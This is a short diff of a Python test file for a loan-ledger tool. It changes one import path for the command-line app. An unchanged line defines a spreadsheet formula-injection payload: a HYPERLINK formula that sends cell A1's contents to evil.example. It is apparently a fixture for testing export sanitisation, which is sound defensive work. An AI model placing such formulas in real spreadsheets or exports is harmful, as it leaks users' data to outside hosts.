@@ -9,7 +9,7 @@ from pathlib import Path
 from typer.testing import CliRunner
 
 from loanledger import LoanLedger
-from loanledger.cli import app
+from loanledger.entrypoints.cli import app
 from tests.journal import disburse, pre_loan
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
